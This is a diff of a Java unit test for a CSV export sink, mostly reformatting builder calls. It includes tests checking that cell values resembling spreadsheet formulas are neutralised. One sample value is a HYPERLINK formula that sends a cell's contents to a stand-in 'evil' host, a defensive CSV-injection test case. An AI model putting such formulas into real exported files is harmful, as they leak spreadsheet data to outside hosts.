@@ -14,8 +14,9 @@ import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
 
 class CsvSinkTest {
-    private static final SinkOptions ROW_AND_TITLE =
-            SinkOptions.builder().columns(Columns.ALL.select(List.of("row", "title", "word_count"))).build();
+    private static final SinkOptions ROW_AND_TITLE = SinkOptions.builder()
+            .columns(Columns.ALL.select(List.of("row", "title", "word_count")))
+            .build();
 
     @Test
     void theFirstRowHoldsTheNamesAndEveryRowAsManyFields() {
@@ -62,7 +63,9 @@ class CsvSinkTest {
     @Test
     void guardsFormulasUnlessTurnedOff() {
         CrawlRecord hostile = SampleRecords.titled("=HYPERLINK(\"http://evil/\"&A1)", Map.of("k", ";=1"));
-        SinkOptions options = SinkOptions.builder().columns(Columns.ALL.select(List.of("title", "input"))).build();
+        SinkOptions options = SinkOptions.builder()
+                .columns(Columns.ALL.select(List.of("title", "input")))
+                .build();
         assertThat(Written.by(CSV, options, hostile))
                 .isEqualTo(
                         "title,input\r\n\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\",\"{\"\"k\"\":\"\";\\u003d1\"\"}\"\r\n");
@@ -72,7 +75,9 @@ class CsvSinkTest {
 
     @Test
     void theUrlOfARowIsGuardedAsAllTextIs() {
-        SinkOptions options = SinkOptions.builder().columns(Columns.ALL.select(List.of("url"))).build();
+        SinkOptions options = SinkOptions.builder()
+                .columns(Columns.ALL.select(List.of("url")))
+                .build();
         assertThat(Written.by(CSV, options, SampleRecords.invalid(1, "-1+1"))).isEqualTo("url\r\n'-1+1\r\n");
     }
 
@@ -84,7 +89,8 @@ class CsvSinkTest {
 
     @Test
     void aByteOrderMarkComesFirstWhereAskedFor() {
-        assertThat(Written.by(CSV, ROW_AND_TITLE.toBuilder().byteOrderMark(true).build())).isEqualTo("\uFEFFrow,title,word_count\r\n");
+        assertThat(Written.by(CSV, ROW_AND_TITLE.toBuilder().byteOrderMark(true).build()))
+                .isEqualTo("\uFEFFrow,title,word_count\r\n");
     }
 
     @Test
